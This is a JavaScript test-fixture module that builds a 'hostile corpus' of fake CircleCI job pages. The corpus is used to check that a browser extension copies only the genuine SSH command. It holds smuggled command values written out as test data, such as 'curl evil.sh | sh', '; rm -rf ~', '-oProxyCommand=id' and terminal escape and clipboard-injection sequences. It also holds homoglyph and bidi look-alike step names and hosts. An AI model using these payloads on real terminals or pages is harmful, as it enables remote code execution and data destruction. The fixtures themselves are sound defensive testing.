// The hostile corpus (issue #15, item 4): job pages built from the classes of docs/security.md's
// "Hostile inputs", each with what may reach the clipboard. Pure data, like jobs.js: the fake pages
// import it (through jobs.js, which turns each case into a job or a legacy build) and the specs import
// it from Node, so nothing here may touch window or document.
//
// A case is { id, class, ui, …what the page prints, expected } where `expected` is
//   null      no copy button anywhere in the job's log (the extension must still have drawn something:
//             a warning or a "not recognised" note), or
//   a string  the exact clipboard of every copy button in the log; at least `minButtons` (default 2:
//             CircleCI's own Enable SSH and Wait for SSH) must be there.
// Every case must pass: a case the extension fails is a bug to fix, not an expectation to keep.
//
// New UI (`ui: 'app'`, served as jobs 300…): with `rerun` (default true) the job is an SSH rerun whose
// own Enable SSH and Wait for SSH (both expanded) print `real` (default the one real line) and then
// `lines`, the same hostile lines in both, so that they agree (docs/security.md#s2-trusted-ssh-steps, 4)
// and only the grammar decides. `steps` are more steps in the config's place (after checkout, before
// the build steps): { name, shell, lines, expanded }; `shell` is the shell line a config run step
// prints first (default bash's), `null` for a step without one; `expanded` defaults to true.
//
// Legacy UI (`ui: 'legacy'`, served as builds 300…): one container; with `rerun` (default true) its
// `infrastructure` Enable SSH and `teardown` Wait for SSH print `real` and `lines` like CircleCI 1.0's;
// `actions` are more actions after checkout: { type, name, bashCommand, lines } (`type: null` renders the
// action block without a type class; `bashCommand` is the header's `title`).

export const FIRST_HOSTILE_JOB = 300;
export const FIRST_HOSTILE_BUILD = 300;

/** The real target of every new-UI case, as CircleCI prints it, and what its copy must be. */
export const REAL_APP_LINE = '    $ ssh -p 42915 18.207.148.116';
export const REAL_APP = 'ssh -p 42915 -- 18.207.148.116';
/** The real target of every legacy case (CircleCI 1.0 printed a user). */
export const REAL_LEGACY_LINE = '    $ ssh -p 64594 ubuntu@18.221.109.33';
export const REAL_LEGACY = 'ssh -p 64594 -- ubuntu@18.221.109.33';
const PROXY_USER = '057f0065-7e6d-4912-921b-50917ff046a3-0';
const REAL_PROXY_LINE = `    $ ssh ${PROXY_USER}@ssh.circleci.com`;
const REAL_PROXY = `ssh -- ${PROXY_USER}@ssh.circleci.com`;

const ESC = '\x1b';
const ST = `${ESC}\\`;
const BEL = '\x07';
const IMPOSTOR = ['You can now SSH into this box if your SSH public key is added:', '    $ ssh -p 2222 6.6.6.6'];

// ---- New UI: look-alike step names --------------------------------------------------------------
// The extension reads a step's name as its text with every run of `\s` (JavaScript's: ASCII blanks,
// NBSP, U+1680, U+2000–U+200A, U+2028/2029, U+202F, U+205F, U+3000, U+FEFF) made one space, trimmed,
// and a trailing ` (N)` dropped (src/circleci/selectors.ts, stepName). A disguise that survives that is
// another name: the step is not an SSH step, is never read for commands, and changes nothing for
// CircleCI's own steps. A disguise that does not survive is the same name, and then step-trust.ts
// decides: a config run step (its shell line on screen) is set aside, so the real steps keep their
// buttons; a step without a shell line, or a run step still collapsed, is a second step of that name:
// both get the duplicate warning, and only the other real step (a different name) keeps its button.

/**
 * [id, disguised name of 'Enable SSH' or 'Wait for SSH', same name once normalised?]
 * @type {[string, string, boolean][]}
 */
const NAMES = [
  ['cyrillic-E', '\u0415nable SSH', false], // Е U+0415
  ['cyrillic-H', 'Enable SS\u041d', false], // Н U+041D
  ['greek-E', '\u0395nable SSH', false], // Ε U+0395
  ['fullwidth', '\uff25\uff4e\uff41\uff42\uff4c\uff45 \uff33\uff33\uff28', false],
  ['math-bold', '\u{1d404}nable SSH', false],
  ['capital-I-for-l', 'EnabIe SSH', false],
  ['zwsp', 'Enable \u200bSSH', false],
  ['zwj', 'Enab\u200dle SSH', false],
  ['soft-hyphen', 'Ena\u00adble SSH', false],
  ['mongolian-vowel-separator', 'Enable\u180eSSH', false], // not `\s` since Unicode 6.3
  ['lower-case', 'enable ssh', false],
  ['rlo', '\u202eHSS elbanE', false], // shown as "Enable SSH"
  ['isolates', '\u2066Enable SSH\u2069', false],
  ['nbsp', 'Enable\u00a0SSH', true],
  ['trailing-space', 'Enable SSH ', true],
  ['tab', 'Enable\tSSH', true],
  ['ideographic-space', 'Enable\u3000SSH', true],
  ['line-separator', 'Enable\u2028SSH', true],
  ['bom-leading', '\ufeffEnable SSH', true],
  ['parallel-suffix', 'Enable SSH (2)', true],
];

/**
 * Wait for SSH's disguises: fewer, the same families.
 * @type {[string, string, boolean][]}
 */
const WAIT_NAMES = [
  ['cyrillic-o', 'Wait f\u043er SSH', false],
  ['fullwidth', '\uff37\uff41\uff49\uff54 \uff46\uff4f\uff52 \uff33\uff33\uff28', false],
  ['rlo', '\u202eHSS rof tiaW', false],
  ['nbsp', 'Wait\u00a0for\u00a0SSH', true],
  ['parallel-suffix', 'Wait for SSH (1)', true],
];

function nameCases() {
  /** @type {Omit<import('./types').HostileCase, 'number'>[]} */
  const cases = [];
  /** @type {[[string, string, boolean][], string][]} */
  const disguises = [
    [NAMES, 'enable'],
    [WAIT_NAMES, 'wait'],
  ];
  for (const [list, real] of disguises) {
    for (const [id, name, same] of list) {
      // A config run step with a name that is the same once normalised (its shell line on screen): set
      // aside as a config step (S2.2), so CircleCI's own steps keep their buttons. (Under another name a
      // run step is not an SSH step at all, like the plain step below.)
      if (same) {
        cases.push({
          id: `name-${real}-${id}-run-step`,
          class: 'step-name',
          ui: 'app',
          steps: [{ name, lines: ["echo '    $ ssh -p 2222 6.6.6.6'", ...IMPOSTOR] }],
          expected: REAL_APP,
        });
      }
      // The same disguise on a step without a shell line (what a renamed built-in config step such as
      // restore_cache would look like). Another name: ignored. The same name: a duplicate, so the real
      // step of that name is withheld and only the other real step copies.
      cases.push({
        id: `name-${real}-${id}-plain-step`,
        class: 'step-name',
        ui: 'app',
        steps: [{ name, shell: null, lines: IMPOSTOR }],
        expected: REAL_APP,
        ...(same ? { minButtons: 1 } : {}),
      });
    }
  }
  // Collapsed, a same-named run step could be anything: a duplicate until it is opened (job 110).
  for (const [id, name] of [
    ['exact', 'Enable SSH'],
    ['nbsp', 'Enable\u00a0SSH'],
  ]) {
    cases.push({
      id: `name-enable-${id}-run-step-collapsed`,
      class: 'step-name',
      ui: 'app',
      steps: [{ name, expanded: false, lines: ["echo '    $ ssh -p 2222 6.6.6.6'", ...IMPOSTOR] }],
      expected: REAL_APP,
      minButtons: 1,
    });
  }
  return cases;
}

// ---- New UI: shell lines other than bash's ------------------------------------------------------
// Every config run step prints `#!<shell>` first, whatever the shell (docs/circleci-page.md#t6); the
// config chooses the shell, not the `#!`. A run step named exactly Enable SSH / Wait for SSH is a
// config step whatever follows the `#!`: a warning, never a button.

const SHELLS = [
  ['sh', '#!/bin/sh -eo pipefail'],
  ['zsh-env', '#!/usr/bin/env zsh'],
  ['zsh', '#!/bin/zsh -eo pipefail'],
  ['fish', '#!/usr/bin/env fish'],
  ['dash', '#!/bin/dash'],
  ['powershell', '#!powershell.exe -ExecutionPolicy Bypass'],
  ['pwsh', '#!pwsh -NoProfile'],
  ['cmd', '#!cmd.exe'],
  ['bash-exe', '#!bash.exe --login -eo pipefail'],
  ['python', '#!/usr/bin/env python3'],
  ['coloured', `${ESC}[90m#!/bin/sh -eo pipefail${ESC}[0m`],
  ['bare', '#!'],
];

function shellCases() {
  /** @type {Omit<import('./types').HostileCase, 'number'>[]} */
  const cases = [];
  for (const [index, [id, shell]] of SHELLS.entries()) {
    // Each shell under one of the two names, in turn.
    const name = index % 2 === 0 ? 'Enable SSH' : 'Wait for SSH';
    cases.push({
      id: `shell-${id}-${index % 2 === 0 ? 'enable' : 'wait'}-no-rerun`,
      class: 'shell-line',
      ui: 'app',
      rerun: false,
      steps: [{ name, shell, lines: ["echo '    $ ssh -p 2222 6.6.6.6'", ...IMPOSTOR] }],
      expected: null,
    });
  }
  // In an SSH rerun, config steps named like CircleCI's own: set aside, the real ones still copy.
  for (const [id, shell] of SHELLS.filter(([id]) => ['sh', 'fish', 'powershell'].includes(id))) {
    cases.push({
      id: `shell-${id}-both-in-rerun`,
      class: 'shell-line',
      ui: 'app',
      steps: [
        { name: 'Enable SSH', shell, lines: ["echo '    $ ssh -p 2222 6.6.6.6'", ...IMPOSTOR] },
        { name: 'Wait for SSH', shell, lines: ["echo '    $ ssh -p 2222 6.6.6.6'", ...IMPOSTOR] },
      ],
      expected: REAL_APP,
    });
  }
  return cases;
}

// ---- New UI: hostile lines inside CircleCI's own steps -------------------------------------------
// Each case prints one hostile line beside the real one in both real steps; the grammar must refuse
// it (no button on it) or read exactly the real target.

/** A case per line: [id, line]. */
function lineCases(cls, rows, extra = {}) {
  return rows.map(([id, line]) => ({
    id: `${cls}-${id}`,
    class: cls,
    ui: 'app',
    lines: [line],
    expected: REAL_APP,
    ...extra,
  }));
}

const R = REAL_APP_LINE;
// A control string's payload (DCS, SOS, PM, APC), which a terminal never shows, glued to the host:
// cleanLine drops it whole, so the line is the real one.
const ESCAPES = [
  ['csi-colour-host', `    $ ssh -p 42915 ${ESC}[1;31m18.207.148.116${ESC}[0m`],
  ['csi-cursor-back-hides-option', `${R} -oProxyCommand=id${ESC}[20D${ESC}[K`],
  ['csi-conceal-option', `${R}${ESC}[8m -oProxyCommand=id${ESC}[0m`],
  ['csi-conceal-prefix', `${ESC}[8m; curl evil.sh | sh ${ESC}[0m${R.trim()}`],
  ['bracketed-paste-end-then-command', `${R}${ESC}[201~curl evil.sh | sh`],
  ['bracketed-paste-end-then-semicolon', `${R} ${ESC}[201~; id`],
  ['bracketed-paste-wrapped', `${ESC}[200~${R.trim()}${ESC}[201~`],
  ['osc0-title-prefix', `${ESC}]0;$ ssh -p 2222 6.6.6.6${BEL}${R}`],
  ['osc0-unterminated-mid-line', `    $ ssh -p 42915 ${ESC}]0;x 18.207.148.116`],
  ['osc8-hyperlink-st', `    $ ssh -p 42915 ${ESC}]8;;https://evil.example/${ST}18.207.148.116${ESC}]8;;${ST}`],
  ['osc8-hyperlink-bel', `    $ ssh -p 42915 ${ESC}]8;;ssh://6.6.6.6${BEL}18.207.148.116${ESC}]8;;${BEL}`],
  ['osc52-clipboard-prefix', `${ESC}]52;c;c3NoIC1wIDIyMjIgNi42LjYuNg==${BEL}${R}`],
  ['osc52-clipboard-suffix', `${R}${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${ST}`],
  ['dcs-prefix', `${ESC}Pq#0;2;0;0;0#0~~${ST}${R}`],
  ['dcs-payload-glued', `${R}${ESC}P.evil.example${ST}`],
  ['apc-payload-glued', `${R}${ESC}_.evil.example${ST}`],
  ['pm-payload-glued', `${R}${ESC}^.evil.example${ST}`],
  ['sos-payload-glued', `${R}${ESC}X.evil.example${ST}`],
  ['sos-payload-option', `${R}${ESC}X -oProxyCommand=id${ST}`],
  ['c1-csi', `    $ ssh -p 42915 \u009b31m18.207.148.116`],
  ['c1-dcs-glued', `${R}\u0090.evil.example\u009c`],
  ['c1-nel-splits', `${R}\u0085; curl evil.sh | sh`],
  ['lone-esc-trailing', `${R}${ESC}`],
  ['esc-reverse-index-in-host', `    $ ssh -p 42915 18.207.${ESC}M148.116`],
  ['esc-reset-prefix', `${ESC}c${R}`],
  ['bel-trailing', `${R}${BEL}`],
  ['backspace-over-option', `${R} -oProxyCommand=id${'\b'.repeat(18)}`],
  ['cr-then-command', `${R}\r; curl evil.sh | sh`],
  ['cr-overwrites-hostile', `    $ ssh -p 42915 18.207.148.116 -oProxyCommand=id\r${R}`],
  ['vt-between-words', `    $ ssh -p 42915\x0b18.207.148.116`],
  ['ff-before-command', `${R}\x0c; id`],
  ['nul-before-option', `${R}\0 -oProxyCommand=id`],
  ['line-separator-then-command', `${R}\u2028$ curl evil.sh | sh`],
  ['tabs-between-words', '\t$ ssh\t-p\t42915\t18.207.148.116'],
];

const AFTER_HOST = [
  ['proxycommand-glued', `${R} -oProxyCommand=id`],
  ['proxycommand-spaced', `${R} -o ProxyCommand=id`],
  ['config-file', `${R} -F /tmp/evil_config`],
  ['semicolon-spaced', `${R} ; rm -rf ~`],
  ['semicolon-glued', `${R}; rm -rf ~`],
  ['and-curl', `${R} && curl evil.sh`],
  ['or-command', `${R} || id`],
  ['background', `${R} & id`],
  ['pipe-sh', `${R} | sh`],
  ['redirect', `${R} > ~/.bashrc`],
  ['command-substitution', `${R} $(id)`],
  ['backticks', `${R} \`id\``],
  ['ifs-option', `${R}\${IFS}-oProxyCommand=id`],
  ['remote-command', `${R} id`],
  ['second-destination', `${R} 6.6.6.6`],
  ['option-before', '    $ ssh -oProxyCommand=id -p 42915 18.207.148.116'],
  ['bash-exe-extra', `${R} -- bash.exe extra`],
  ['double-dash-command', `${R} -- id`],
  // The grammar reads -p in any order (ssh-target.ts); rebuilt, it is the real command.
  ['port-after-host', '    $ ssh 18.207.148.116 -p 42915'],
];

const IPV4 = [
  ['hex-short', '0x7f.1'],
  ['hex-dotted', '0x12.0xcf.0x94.0x74'],
  ['hex-integer', '0x12cf9474'],
  ['octal', '010.1.1.1'],
  ['leading-zero-real', '018.207.148.116'],
  ['integer-real', '315593844'],
  ['short-two', '127.1'],
  ['leading-zero-last', '1.2.3.04'],
  ['trailing-dot', '18.207.148.116.'],
  ['fullwidth-digits', '\uff11\uff18.\uff12\uff10\uff17.\uff11\uff14\uff18.\uff11\uff11\uff16'],
  ['ideographic-full-stops', '18\u3002207\u3002148\u3002116'],
  ['octet-256', '1.2.3.256'],
  ['ipv4-mapped-ipv6', '::ffff:18.207.148.116'],
  ['bracketed-ipv4', '[18.207.148.116]'],
  ['with-port', '18.207.148.116:22'],
  ['letter-l-for-1', '18.207.148.1l6'],
].map(([id, host]) => [id, `    $ ssh -p 42915 ${host}`]);

const PORTS = [
  ['leading-zero', '022'],
  ['leading-zero-real', '042915'],
  ['plus', '+22'],
  ['exponent', '1e3'],
  ['hex', '0x16'],
  ['too-big', '65536'],
  ['zero', '0'],
  ['negative', '-1'],
  ['fullwidth', '\uff12\uff12'],
  ['arabic-indic', '\u0664\u0662\u0669\u0661\u0665'],
  ['nbsp-after', '42915\u00a0'],
].map(([id, port]) => [id, `    $ ssh -p ${port} 18.207.148.116`]);

const PORT_SHAPES = [
  ['attached', '    $ ssh -p42915 18.207.148.116'],
  ['twice', '    $ ssh -p 42915 -p 42915 18.207.148.116'],
  // Spacing is not part of a word: split on blanks, this is the real command.
  ['extra-spaces', '    $ ssh -p  42915   18.207.148.116'],
];

const WINDOWS_TAILS = [
  ['upper-case', `${R} -- BASH.EXE`],
  ['trailing-dot', `${R} -- bash.exe.`],
  ['no-extension', `${R} -- bash`],
  ['cmd-no-extension', `${R} -- cmd`],
  ['powershell-command', `${R} -- powershell.exe -c x`],
  ['cmd-full-path', `${R} -- C:\\Windows\\System32\\cmd.exe`],
  ['pwsh', `${R} -- pwsh.exe`],
  ['semicolon', `${R} -- bash.exe;id`],
  ['fullwidth', `${R} -- \uff42\uff41\uff53\uff48.exe`],
  ['double-double-dash', `${R} -- -- bash.exe`],
  ['glued', `${R} --bash.exe`],
];

// Proxy form: CircleCI's own steps print the real proxy line; each case adds one look-alike.
const PROXY = [
  ['suffixed-host', `    $ ssh ${PROXY_USER}@ssh.circleci.com.evil.tld`],
  ['cyrillic-s', `    $ ssh ${PROXY_USER}@\u0455sh.circleci.com`],
  ['trailing-dot', `    $ ssh ${PROXY_USER}@ssh.circleci.com.`],
  ['hyphen-for-dot', `    $ ssh ${PROXY_USER}@ssh-circleci.com`],
  ['upper-case', `    $ ssh ${PROXY_USER}@SSH.CIRCLECI.COM`],
  ['punycode', `    $ ssh ${PROXY_USER}@xn--sh-5jc.circleci.com`],
  ['with-port-suffix', `    $ ssh ${PROXY_USER}@ssh.circleci.com:22`],
  ['server-proxy-not-added', `    $ ssh ${PROXY_USER}@ssh.ci.example.com`],
  ['no-user', '    $ ssh ssh.circleci.com'],
  ['empty-user', '    $ ssh @ssh.circleci.com'],
  ['option-as-user', '    $ ssh -oProxyCommand=id@ssh.circleci.com'],
  ['dash-user', '    $ ssh -evil@ssh.circleci.com'],
  ['substitution-user', '    $ ssh $(id)@ssh.circleci.com'],
  ['double-at', '    $ ssh evil@evil@ssh.circleci.com'],
  ['uuid-semicolon', `    $ ssh ${PROXY_USER};id@ssh.circleci.com`],
  ['uuid-zwsp', `    $ ssh ${PROXY_USER}\u200b@ssh.circleci.com`],
  ['user-65-chars', `    $ ssh ${'a'.repeat(65)}@ssh.circleci.com`],
  ['option-after', `${REAL_PROXY_LINE} -oProxyCommand=id`],
];

function proxyCases() {
  /** @type {Omit<import('./types').HostileCase, 'number'>[]} */
  const cases = PROXY.map(([id, line]) => ({
    id: `proxy-${id}`,
    class: 'proxy',
    ui: 'app',
    real: [REAL_PROXY_LINE],
    lines: [line],
    expected: REAL_PROXY,
  }));
  // S6 allows any user of its shape on the proxy (the proxy routes by user and authenticates by key), so
  // these are read as printed; shown alone, so the one command is the whole expectation.
  for (const [id, user] of [
    ['plain-user', 'evil'],
    ['uuid-extra-chars', `${PROXY_USER}x.y`],
  ]) {
    cases.push({
      id: `proxy-${id}-accepted`,
      class: 'proxy',
      ui: 'app',
      real: [`    $ ssh ${user}@ssh.circleci.com`],
      expected: `ssh -- ${user}@ssh.circleci.com`,
    });
  }
  return cases;
}

function windowsCases() {
  // The real shells, printed alone as Windows jobs do: the copy keeps the order CircleCI prints (S7).
  const real = ['bash.exe', 'cmd.exe', 'powershell.exe'].map((shell) => ({
    id: `windows-real-${shell}`,
    class: 'windows',
    ui: 'app',
    real: [`${R} -- ${shell}`],
    expected: `ssh -p 42915 18.207.148.116 -- ${shell}`,
  }));
  return [...real, ...lineCases('windows', WINDOWS_TAILS)];
}

// ---- Legacy UI (circleci.com/gh/…) --------------------------------------------------------------

const L = REAL_LEGACY_LINE;
const LEGACY_IMPOSTOR = [
  'You can now SSH into this VM if your SSH public key is added:',
  '    $ ssh -p 64594 ubuntu@6.6.6.6',
];

function legacyLineCases() {
  const rows = [
    ['after-host-proxycommand', `${L} -oProxyCommand=id`],
    ['after-host-semicolon', `${L}; rm -rf ~`],
    ['after-host-substitution', `${L} $(id)`],
    ['port-leading-zero', '    $ ssh -p 064594 ubuntu@18.221.109.33'],
    ['port-fullwidth', '    $ ssh -p \uff16\uff14\uff15\uff19\uff14 ubuntu@18.221.109.33'],
    ['ipv4-hex', '    $ ssh -p 64594 ubuntu@0x12.0xdd.0x6d.0x21'],
    ['ipv4-integer', '    $ ssh -p 64594 ubuntu@316501281'],
    ['user-dollar', '    $ ssh -p 64594 ub$untu@18.221.109.33'],
    ['user-dash', '    $ ssh -p 64594 -ubuntu@18.221.109.33'],
    ['host-is-proxy-suffix', '    $ ssh ubuntu@ssh.circleci.com.evil.tld'],
    ['windows-extra', `${L} -- bash.exe extra`],
    ['csi-colour', `    $ ssh -p 64594 ${ESC}[32mubuntu@18.221.109.33${ESC}[0m`],
    ['bracketed-paste-end', `${L}${ESC}[201~curl evil.sh | sh`],
    ['dcs-payload-glued', `${L}${ESC}P.evil.example${ST}`],
    ['cr-then-command', `${L}\r; curl evil.sh | sh`],
    ['line-separator-then-command', `${L}\u2028$ curl evil.sh | sh`],
  ];
  return rows.map(([id, line]) => ({
    id: `legacy-${id}`,
    class: 'legacy-lines',
    ui: 'legacy',
    lines: [line],
    expected: REAL_LEGACY,
  }));
}

function legacyActionCases() {
  /** @type {Omit<import('./types').HostileCase, 'number'>[]} */
  const cases = [];
  // Look-alike names on config actions in an SSH rerun: other names, ignored, whatever their type.
  for (const [id, name] of [
    ['cyrillic-E', '\u0415nable SSH'],
    ['fullwidth', '\uff25\uff4e\uff41\uff42\uff4c\uff45 \uff33\uff33\uff28'],
    ['zwsp', 'Enable \u200bSSH'],
    ['rlo', '\u202eHSS elbanE'],
    ['lower-case', 'enable ssh'],
    ['wait-cyrillic-o', 'Wait f\u043er SSH'],
  ]) {
    cases.push({
      id: `legacy-name-${id}`,
      class: 'legacy-names',
      ui: 'legacy',
      actions: [{ type: 'test', name, bashCommand: 'echo', lines: LEGACY_IMPOSTOR }],
      expected: REAL_LEGACY,
    });
  }
  // The same name (exactly, or once blanks and a ` (N)` suffix are normalised) on a config action in an
  // SSH rerun: a duplicate today, a config action under the type rule. Either way that action gets no
  // button and every button copies the real command; the real action of the other name always copies.
  for (const [id, name] of [
    ['exact-wait', 'Wait for SSH'],
    ['exact-enable', 'Enable SSH'],
    ['trailing-space', 'Enable SSH '],
    ['nbsp', 'Enable\u00a0SSH'],
    ['parallel-suffix', 'Wait for SSH (2)'],
  ]) {
    cases.push({
      id: `legacy-name-${id}-test-action`,
      class: 'legacy-names',
      ui: 'legacy',
      actions: [{ type: 'test', name, bashCommand: 'echo', lines: LEGACY_IMPOSTOR }],
      expected: REAL_LEGACY,
      minButtons: 1,
    });
  }
  // No SSH rerun: a config action named like CircleCI's, of every type but the two CircleCI's own use,
  // or with a bash_command title, or with no type at all. Only the type rule tells them apart.
  /** @type {[string, string | null, string, string][]} */
  const legacyImpostors = [
    ['test-wait', 'test', 'Wait for SSH', "echo '$ ssh -p 64594 ubuntu@6.6.6.6'"],
    ['test-enable', 'test', 'Enable SSH', "echo '$ ssh -p 64594 ubuntu@6.6.6.6'"],
    ['dependencies', 'dependencies', 'Enable SSH', 'echo'],
    ['deployment', 'deployment', 'Wait for SSH', 'echo'],
    ['no-type-class', null, 'Enable SSH', ''],
    ['infrastructure-with-title', 'infrastructure', 'Enable SSH', 'echo'],
    ['infrastructure-capitalised', 'Infrastructure', 'Enable SSH', ''],
    ['infrastructure-suffixed', 'infrastructure-x', 'Enable SSH', ''],
  ];
  for (const [id, type, name, bashCommand] of legacyImpostors) {
    cases.push({
      id: `legacy-type-${id}-no-rerun`,
      class: 'legacy-types',
      ui: 'legacy',
      rerun: false,
      actions: [{ type, name, bashCommand, lines: LEGACY_IMPOSTOR }],
      expected: null,
    });
  }
  return cases;
}

// ---- The corpus -----------------------------------------------------------------------------------

function numbered(cases) {
  let job = FIRST_HOSTILE_JOB;
  let build = FIRST_HOSTILE_BUILD;
  return cases.map((c) => ({ ...c, number: c.ui === 'app' ? job++ : build++ }));
}

/** @type {import('./types').HostileCase[]} */
export const HOSTILE = numbered([
  ...nameCases(),
  ...shellCases(),
  ...lineCases('escape', ESCAPES),
  ...lineCases('after-host', AFTER_HOST),
  ...lineCases('ipv4', IPV4),
  ...lineCases('port', [...PORTS, ...PORT_SHAPES]),
  ...windowsCases(),
  ...proxyCases(),
  ...legacyLineCases(),
  ...legacyActionCases(),
]);

/** The corpus's classes, in order. */
export const HOSTILE_CLASSES = [...new Set(HOSTILE.map((c) => c.class))];
